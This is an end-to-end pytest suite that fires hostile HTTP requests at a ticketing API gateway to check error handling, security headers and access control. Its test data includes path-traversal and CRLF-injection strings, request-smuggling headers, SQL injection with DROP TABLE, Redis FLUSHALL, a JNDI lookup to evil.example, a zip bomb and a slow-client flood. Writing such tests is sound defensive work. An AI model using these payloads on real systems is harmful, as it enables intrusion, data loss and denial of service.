"""Hostile requests: never a 5xx, always the error format, the trace id and the security headers."""

import gzip
import http.client
import json
import re
import socket
import time
from collections.abc import Iterator, Mapping
from contextlib import ExitStack
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit
from uuid import uuid4

import pytest

from tests.e2e.event_on_sale import put_on_sale
from tools.demo.buyer import Api, Buyer, eventually, log_in

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(300)]

DOCUMENT = json.loads((Path(__file__).parents[2] / "functions/gateway/openapi.json").read_text(encoding="utf-8"))
SECURITY = {
    "strict-transport-security",
    "x-content-type-options",
    "x-frame-options",
    "referrer-policy",
    "content-security-policy",
}
# Invalid HTTP, or more headers than the gateway reads, is rejected before it reaches the API (as on AWS).
REJECTED_EARLY = (400, 413, 431)
EVENT = "01900000-0000-7000-8000-000000000003"


class WireResponse:
    def __init__(self, response: http.client.HTTPResponse) -> None:
        self.status = response.status
        self.headers = {name.lower(): value for name, value in response.getheaders()}
        self.body = response.read()

    @property
    def is_ours(self) -> bool:
        return "x-trace-id" in self.headers

    def check(self) -> None:
        assert self.status < 500, (self.status, self.body[:300])
        assert self.headers.keys() >= SECURITY, self.headers
        assert "set-cookie" not in self.headers
        assert "server" not in self.headers
        if self.status >= 400 and self.body:
            error = json.loads(self.body)
            assert {"code", "message", "timestamp", "traceId"} <= error.keys()
            assert error["traceId"] == self.headers["x-trace-id"]


class Wire:
    """Sends bytes exactly as they are given, without a client library."""

    def __init__(self, url: str, token: str) -> None:
        self.at = (str(urlsplit(url).hostname), int(urlsplit(url).port or 80))
        self.token = token

    def send(self, raw: bytes) -> WireResponse:
        with socket.create_connection(self.at, timeout=60) as connection:
            connection.sendall(raw)
            response = http.client.HTTPResponse(connection, method=raw.split(b" ", 1)[0].decode("latin-1"))
            response.begin()
            return WireResponse(response)

    def request(
        self,
        method: str,
        path: str,
        headers: Mapping[str, str] | None = None,
        body: bytes = b"",
        *,
        logged_in: bool = True,
    ) -> WireResponse:
        lines = [f"{method} {path} HTTP/1.1", "Host: api", "Connection: close"]
        lines += [f"Authorization: Bearer {self.token}"] if logged_in else []
        lines += [f"{name}: {value}" for name, value in (headers or {}).items()]
        lines += [f"Content-Length: {len(body)}"] if body else []
        return self.send("\r\n".join([*lines, "", ""]).encode("utf-8", "surrogateescape") + body)


@pytest.fixture(scope="module")
def buyer(open_stack: dict[str, Any]) -> Buyer:
    made = Buyer(open_stack["api"], open_stack["sandbox"])
    made.register()
    made.login()
    return made


@pytest.fixture(scope="module")
def admin(open_stack: dict[str, Any]) -> Api:
    return log_in(open_stack["api"], "admin@example.com", "local-admin-1234")


@pytest.fixture(scope="module")
def event(admin: Api) -> str:
    """A new event: an earlier attack may have deleted the seeded one."""
    made: str = put_on_sale(admin)["id"]
    return made


@pytest.fixture(scope="module")
def wire(open_stack: dict[str, Any], buyer: Buyer) -> Wire:
    return Wire(open_stack["api"], buyer.api.client.headers["Authorization"].removeprefix("Bearer "))


@pytest.mark.parametrize(
    "path",
    [
        "//",
        "//events",
        "///internal/seats/status/x",
        "/events/%2e%2e/internal/seats/status/x",
        "/events/..%2f..%2finternal",
        "/../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/events/../users/me",
        "/events/%2F",
        "/events/%252e%252e%252f",
        "/events;jsessionid=1",
        "/events/..;/venues",
        "/events/%00",
        "/events/x%00.json",
        "/events/%0d%0aSet-Cookie:%20a=b",
        "/internal",
        "/internal/",
        "/internal/seats/status/" + EVENT,
        "/%69nternal/seats/status/" + EVENT,
        "/INTERNAL/seats/status/" + EVENT,
        "/2015-03-31/functions/AuthorizerFunction/invocations",
        "/prod/events",
        "/events/%ff%fe",
        "/events/%ed%a0%80",
        "/events/%",
        "/events/%zz",
        "/events/{id}",
        "/events/" + "a" * 6000,
        "/" + "a/" * 2000,
        "/docs/..%2f..%2ftemplate.yaml",
        "/docs/%2e%2e%2fopenapi.py",
        "/docs/swagger-ui-bundle.js.map",
        "/.git/config",
        "/.env",
        "/users/me/",
        "/users/me%20",
        "/users/ME",
    ],
)
def test_no_spelling_of_a_path_reaches_another_resource(wire: Wire, path: str) -> None:
    response = wire.request("GET", path, logged_in=False)
    if path == "//events":  # the gateway may ignore an empty segment
        assert response.status in (200, 404)
    else:
        assert response.status in ((401,) if path.startswith("/users/me/") else (404,))
    response.check()


@pytest.mark.parametrize("path", ["/events", "/auth/login", "/payments", "/internal/x", "/openapi.json"])
@pytest.mark.parametrize("method", ["HEAD", "PATCH", "TRACE", "PROPFIND", "get", "DELETE"])
def test_a_method_that_a_path_does_not_have_is_not_found(wire: Wire, method: str, path: str) -> None:
    response = wire.request(method, path)
    if not response.is_ours:
        assert response.status in REJECTED_EARLY
        return
    assert response.status in (404, 405)
    response.check()


def test_invalid_http_is_rejected_early(wire: Wire) -> None:
    for raw in (
        b"\x00GET /events HTTP/1.1\r\n\r\n",
        b"GET /ev\x00ents HTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET /events HTTP/9.9\r\n\r\n",
    ):
        assert wire.send(raw).status in (*REJECTED_EARLY, 404, 505)


HEADERS = [
    {"X-Trace-Id": "%0d%0aSet-Cookie: a=b"},
    {"X-Trace-Id": "x" * 4000},
    {"X-Trace-Id": "../../etc/passwd"},
    {"X-Trace-Id": '", "code": "OK'},
    {"X-Trace-Id": "\udcff\udcfe"},
    {"Accept-Language": "en," * 1500},
    {"Accept-Language": "*;q=9e999,ko;q=nan,en;q=-inf,en;q="},
    {"Accept-Language": "en;q=１"},
    {"Accept": "application/xml, text/html;q=0.9"},
    {"Accept-Encoding": "gzip;q=0, br, identity;q=0, *;q=0"},
    {"If-Match": '"' + "9" * 6000 + '"'},
    {"If-Match": 'W/"1", *, \''},
    {"If-None-Match": '"' * 4000},
    {"X-Queue-Token": "qr_" + "0" * 4000},
    {"X-Queue-Token": "qr_*_*_*"},
    {"X-Queue-Token": "qp_" + "0" * 32 + "_" + "0" * 32 + "_" + "A" * 32},
    {"Origin": "null"},
    {"Origin": "http://localhost:5173.evil.example"},
    {"X-Forwarded-For": "127.0.0.1, " * 500},
    {"X-Forwarded-Host": "evil.example", "Forwarded": "for=unknown;host=evil.example"},
    {"X-HTTP-Method-Override": "DELETE", "X-Original-URL": "/internal/x", "X-Rewrite-URL": "/internal/x"},
    {"X-Service-Api-Key": "x", "X-Service": "payments"},
    {"Content-Type": "application/json" + ";a=b" * 1000},
    {"Range": "bytes=0-,1-,2-", "Expect": "x"},
    {"X-Amzn-Trace-Id": "Root=" + "1" * 3000},
    {"Cookie": "a=b; " * 1000},
    {"User-Agent": "${jndi:ldap://evil.example/a}"},
    {f"X-Flood-{number}": "x" for number in range(200)},
]


@pytest.mark.parametrize(
    "path", ["/events", f"/events/{EVENT}", "/users/me", f"/reservations/seats/{EVENT}", "/nowhere"]
)
@pytest.mark.parametrize("headers", HEADERS, ids=[next(iter(each))[:20] + str(at) for at, each in enumerate(HEADERS)])
def test_no_header_breaks_a_response_or_gets_into_it(wire: Wire, headers: dict[str, str], path: str) -> None:
    response = wire.request("GET", path, headers)
    if not response.is_ours:
        assert response.status in REJECTED_EARLY
        return
    response.check()
    assert response.headers.get("access-control-allow-origin") in (None, "http://localhost:5173")


def test_an_edit_with_an_invalid_version_is_rejected(admin: Api, event: str) -> None:
    for tag in ('"' + "9" * 6000 + '"', '"99999999999999999999"', '"١"', "nonsense", '""'):
        answer = admin.client.put(f"/events/{event}", json={}, headers={b"If-Match": tag.encode()})
        assert (answer.status_code, answer.json()["code"]) == (412, "PRECONDITION_FAILED"), tag[:20]


def test_too_large_headers_are_rejected(wire: Wire) -> None:
    for flood in ({"X-Flood": "x" * 20_000}, {f"X-{number}": "x" * 100 for number in range(300)}):
        assert wire.request("GET", "/events", flood).status in REJECTED_EARLY


@pytest.mark.parametrize(
    "line",
    [
        "X-Trace-Id: a\rSet-Cookie: b=c",
        "X-Trace-Id: a\nSet-Cookie: b=c",
        "X-Trace-Id : a",
        " folded: a",
        "X-Trace-Id: a\x00b",
        "no colon",
        "Content-Length: -1",
        "Content-Length: 1, 2",
        "Content-Length: 99999999999",
        "Transfer-Encoding: chunked\r\nContent-Length: 5",
        "Transfer-Encoding: xchunked",
    ],
)
def test_an_invalid_header_line_causes_no_second_response(wire: Wire, line: str) -> None:
    response = wire.send(
        f"POST /auth/login HTTP/1.1\r\nHost: api\r\n{line}\r\nConnection: close\r\n\r\n0\r\n\r\n".encode()
    )
    assert response.status < 500
    assert "set-cookie" not in response.headers
    if response.is_ours:
        response.check()


# -- bodies -----------------------------------------------------------------------------------------------------------

BAD_BODIES: dict[str, bytes] = {
    "nothing": b"",
    "white space": b" \n\t ",
    "null": b"null",
    "a list": b"[]",
    "a list without end": b"[" * 9000,
    "a list with its end": b"[" * 4500 + b"]" * 4500,
    "objects without end": b'{"eventId":' * 800,
    "a huge number": b'{"eventId": ' + b"9" * 9000 + b"}",
    "infinity": b'{"eventId": 1e400}',
    "minus infinity": b'{"eventId": -1e400}',
    "a tiny number": b'{"eventId": 1e-400}',
    "NaN": b'{"eventId": NaN}',
    "Infinity": b'{"eventId": Infinity}',
    "a query": b'{"eventId": {"$ne": null}}',
    "a lone surrogate": b'{"eventId": "\\ud800"}',
    "a lone surrogate as a key": b'{"\\udfff": 1}',
    "NUL": b'{"eventId": "\\u0000"}',
    "a raw NUL": b'{"eventId": "\x00"}',
    "not UTF-8": b'{"eventId": "\xff\xfe"}',
    "an encoded surrogate": b'{"eventId": "\xed\xa0\x80"}',
    "UTF-16": '{"eventId": "x"}'.encode("utf-16"),
    "a BOM": b'\xef\xbb\xbf{"eventId": "x"}',
    "a comment": b'{"eventId": "x" /* a */}',
    "a comma too many": b'{"eventId": "x",}',
    "quotes of another kind": b"{'eventId': 'x'}",
    "the same key twice": b'{"eventId": "' + EVENT.encode() + b'", "eventId": "x"}',
    "a prototype": b'{"__proto__": {"eventId": "x"}, "constructor": 1}',
    "the field's name in Python": b'{"event_id": "' + EVENT.encode() + b'"}',
    "many keys": b"{" + b",".join(b'"%d":0' % number for number in range(900)) + b"}",
    "JSON in a string": json.dumps(json.dumps({"eventId": EVENT})).encode(),
}


@pytest.mark.parametrize(
    "path", ["/queue/enter", "/auth/login", "/payments/confirm", "/auth/refresh", "/users/me/oauth"]
)
@pytest.mark.parametrize("body", BAD_BODIES.values(), ids=BAD_BODIES)
def test_no_body_causes_a_500(wire: Wire, path: str, body: bytes) -> None:
    response = wire.request("POST", path, {"Content-Type": "application/json"}, body)
    response.check()
    assert (response.status, json.loads(response.body)["code"]) == (400, "VALIDATION_ERROR")


@pytest.mark.parametrize(
    "content_type",
    [
        "text/plain",
        "application/xml",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/problem+json",
        "application/json, text/html",
        "application/jsonx",
        "json",
        "",
        "*/*",
        "application/j\u00a0son",
    ],
)
def test_a_media_type_other_than_json_is_unsupported(wire: Wire, content_type: str) -> None:
    response = wire.request("POST", "/queue/enter", {"Content-Type": content_type}, b'{"eventId": "x"}')
    response.check()
    assert response.status == 415 or (not content_type and response.status == 400)


@pytest.mark.parametrize("charset", ["utf-8", "UTF-16", "euc-kr", "utf-7", '"', "x" * 2000])
def test_json_is_read_as_utf_8_whatever_its_charset(wire: Wire, charset: str) -> None:
    body = json.dumps({"eventId": str(uuid4())}).encode()
    response = wire.request("POST", "/queue/enter", {"Content-Type": f"application/json; charset={charset}"}, body)
    response.check()
    assert response.status == 404


@pytest.mark.parametrize(
    ("path", "size"), [("/auth/login", 10_001), ("/users/me/oauth", 10_001), ("/payments", 1_000_001)]
)
def test_a_body_over_the_limit_is_too_large(wire: Wire, path: str, size: int) -> None:
    response = wire.request("POST", path, {"Content-Type": "application/json"}, b'"' + b"a" * (size - 2) + b'"')
    response.check()
    assert (response.status, json.loads(response.body)["code"]) == (413, "PAYLOAD_TOO_LARGE")


@pytest.mark.parametrize(
    ("coding", "body"),
    [
        ("gzip", b"no gzip"),
        ("gzip", gzip.compress(b" " * 9_000_000)),
        ("gzip", gzip.compress(b"{}")[:-4]),
        ("deflate", b"\x78\x9c"),
        ("br", b"{}"),
        ("gzip, gzip", gzip.compress(gzip.compress(b"{}"))),
    ],
    ids=["not compressed", "a zip bomb", "truncated", "deflate", "brotli", "twice"],
)
def test_a_compressed_body_is_measured_uncompressed(wire: Wire, coding: str, body: bytes) -> None:
    headers = {"Content-Type": "application/json", "Content-Encoding": coding}
    response = wire.request("POST", "/auth/login", headers, body)
    response.check()
    assert response.status in (400, 413, 415)


def test_a_chunked_body_is_read_like_any_other(wire: Wire) -> None:
    body = json.dumps({"eventId": str(uuid4())}).encode()
    chunks = b"".join(b"1\r\n" + body[at : at + 1] + b"\r\n" for at in range(len(body))) + b"0\r\n\r\n"
    head = f"POST /queue/enter HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {wire.token}\r\nConnection: close\r\n"
    response = wire.send(
        head.encode() + b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n" + chunks
    )
    response.check()
    assert response.status == 404
    broken = wire.send(head.encode() + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n")
    assert broken.status in REJECTED_EARLY


def test_clients_that_never_finish_their_body_do_not_delay_others(wire: Wire) -> None:
    head = b"POST /auth/login HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{"
    with ExitStack() as open_ones:
        for _ in range(50):
            connection = open_ones.enter_context(socket.create_connection(wire.at, timeout=10))
            connection.sendall(head)
        began = time.monotonic()
        wire.request("GET", "/events", logged_in=False).check()
        assert time.monotonic() - began < 10


# -- injected ids and queries -----------------------------------------------------------------------------------------

INJECTED = [
    "' OR '1'='1",
    "1; DROP TABLE user_service.users; --",
    "%' UNION SELECT null,null--",
    "\\'; SELECT pg_sleep(30); --",
    "redis.call('FLUSHALL')",
    "}:*{",
    "a\r\nFLUSHALL\r\n",
    "${7*7}{{7*7}}%s%n",
    "\u0000",
    "\ufeff\u202e",
    "9" * 400,
]


def placeholders() -> Iterator[tuple[str, str, str, str]]:
    for path, methods in DOCUMENT["paths"].items():
        for method, operation in methods.items():
            for parameter in operation["parameters"]:
                if parameter["in"] in ("path", "query"):
                    yield method.upper(), path, parameter["in"], parameter["name"]


@pytest.mark.parametrize(("method", "path", "place", "name"), list(placeholders()))
def test_injected_ids_and_queries_are_not_executed(
    wire: Wire, event: str, method: str, path: str, place: str, name: str
) -> None:
    body = b"{}" if method in ("POST", "PUT") else b""
    for injected in INJECTED:
        target = path
        if place == "path":
            target = target.replace(f"{{{name}}}", quote(injected, safe=""))
        target = re.sub(r"{\w+}", event, target)
        if place == "query":
            target += f"?{name}={quote(injected, safe='')}"
        began = time.monotonic()
        response = wire.request(method, target, {"Content-Type": "application/json"} if body else None, body)
        response.check()
        assert time.monotonic() - began < 25, injected
        assert place == "query" or response.status in (401, 403, 404), (injected, response.status)


def test_the_data_is_still_there_after_the_injections(buyer: Buyer, event: str) -> None:
    assert buyer.api("GET", f"/events/{event}")["id"] == event
    assert buyer.api("GET", "/users/me")["email"] == buyer.email


# -- resources of other users -----------------------------------------------------------------------------------------


def test_no_user_can_access_another_users_resources_by_id(open_stack: dict[str, Any], wire: Wire, event: str) -> None:
    owner = Buyer(open_stack["api"], open_stack["sandbox"])
    owner.register()
    owner.login()
    owner.enter(event)
    owner.wait_for_admission(event)
    grades = owner.api("GET", f"/events/{event}/seats")["grades"]
    taken = owner.seat_map(event)
    free = [
        seat["id"] for grade in grades for seat in grade["seats"] if seat["id"] not in (*taken["held"], *taken["sold"])
    ]
    held = owner.hold(event, free[:1])
    payment = owner.create_payment(held["reservationId"])
    ids = {"/reservations/": held["reservationId"], "/payments/": payment["paymentId"]}
    tokens = {"X-Queue-Token": owner.payment_token, "Content-Type": "application/json"}
    reached = []
    for path, methods in DOCUMENT["paths"].items():
        for method in methods:
            for prefix, id_ in ids.items():
                if path.startswith(prefix) and path.endswith("{id}"):
                    body = json.dumps({"seatIds": free[1:2]}).encode() if method == "put" else b""
                    for headers in (tokens, {**tokens, "X-Queue-Token": owner.queue_token}):
                        response = wire.request(method.upper(), path.replace("{id}", id_), headers, body)
                        response.check()
                        reached.append((response.status, f"{method} {path}"))
    for path, payload in (
        ("/payments", {"reservationId": held["reservationId"], "paymentKey": uuid4().hex, "method": "CARD"}),
        ("/payments/confirm", {"paymentId": payment["paymentId"]}),
        ("/reservations/hold", {"eventId": event, "seatIds": free[1:2]}),
    ):
        for token in (owner.payment_token, owner.queue_token):
            headers = {"X-Queue-Token": token, "Content-Type": "application/json"}
            response = wire.request("POST", path, headers, json.dumps(payload).encode())
            reached.append((response.status, f"post {path}"))
    assert len(reached) > 12
    assert [each for each in reached if each[0] not in (403, 404)] == []
    eventually(lambda: owner.reservation(held["reservationId"])["status"], lambda status: status == "PENDING")
